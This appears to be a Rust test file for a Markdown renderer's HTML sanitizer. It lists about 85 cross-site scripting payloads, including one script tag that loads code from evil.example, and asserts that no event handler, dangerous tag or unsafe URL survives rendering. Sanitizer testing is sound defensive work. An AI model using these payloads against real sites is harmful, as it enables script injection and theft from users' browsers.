//! The usual tricks, as found on cross-site scripting cheat sheets.

use super::{balanced, parse, shown};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\nalert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097script:alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61script:alert(1)>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\" &#14; javascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x y</a>",
    "<a href=\"&#x1;javascript:alert(1)\">x y</a>",
    "<a href=\"javascript&colon;alert(1)\">x y</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x y</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x y</a>",
    "<a href=x.md onclick=alert(1) style=\"background:url(javascript:alert(1))\">x y</a>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1);//\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=x class=y name=z tabindex=1 onfocus=alert(1)>x",
    "[x y](javascript:alert(1))",
    "[x y](JaVaScRiPt&#58;alert(1))",
    "[x y](<java\tscript:alert(1)>)",
    "[x y](data:text/html,<script>alert(1)</script>)",
    "[x y](vbscript:msgbox(1))",
    "[x y](https://e.org/\"onmouseover=alert(1)//)",
    "[x y](<https://e.org/\" onmouseover=\"alert(1)>)",
    "![x\" onerror=\"alert(1)](p.png)",
    "![x](p.png '\" onerror=\"alert(1)')",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x y][r]\n\n[r]: javascript:alert(1)",
    "## x {#y onclick=alert(1)}",
    "```x\" onclick=\"alert(1)\nx\n```",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x ?><img src=x onerror=alert(1)>",
    "<b title='&quot; onclick=&quot;alert(1)'>x</b>",
    "\u{FDD0}0\u{FDD1}<b title=\"&#xFDD0;0&#xFDD1;\">x</b>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<scr\u{FDD0}ipt>alert(1)</script>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p\u{2028}onclick=alert(1)>x</p>",
];

/// Names and attributes of every live tag; text and values do not count.
fn live(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let inner = tag.split('>').next().unwrap_or_default();
        // Values are between double quotes and hold none themselves.
        let names: String = inner.split('"').step_by(2).collect();
        found.extend(names.split([' ', '=', '/']).filter(|n| !n.is_empty()).map(str::to_ascii_lowercase));
    }
    found
}

/// Values of every live `href` and `src`.
fn addresses(html: &str) -> Vec<&str> {
    let tags = html.split('<').skip(1).filter_map(|tag| tag.split('>').next());
    let parts = tags.flat_map(|tag| tag.split('"').collect::<Vec<_>>().windows(2).map(|pair| (pair[0], pair[1])).collect::<Vec<_>>());
    parts.filter(|(name, _)| name.ends_with("href=") || name.ends_with("src=")).map(|(_, value)| value).collect()
}

#[test]
fn nothing_live_survives() {
    let around =
        [("", ""), ("> ", ""), ("- ", "\n- x"), ("<div>\n\n", "\n\n</div>"), ("x ", " y"), ("|a|\n|-|\n|", "|"), ("a[^1]\n\n[^1]: ", "")];
    for payload in PAYLOADS {
        for (before, after) in around {
            let body = format!("{before}{payload}{after}");
            let (document, _) = parse(&body);
            for block in &document.blocks {
                let html = shown(block);
                assert!(balanced(&html).is_ok(), "{body:?}: {html:?}");
                for name in live(&html) {
                    assert!(
                        !name.starts_with("on")
                            && !matches!(
                                name.as_str(),
                                "script" | "style" | "svg" | "math" | "iframe" | "object" | "embed" | "form" | "base"
                            ),
                        "{body:?}: {html:?}"
                    );
                }
                for value in addresses(&html) {
                    assert!(["{href", "{#fn", "https://"].iter().any(|good| value.starts_with(good)), "{body:?}: {html:?}");
                }
            }
        }
    }
}
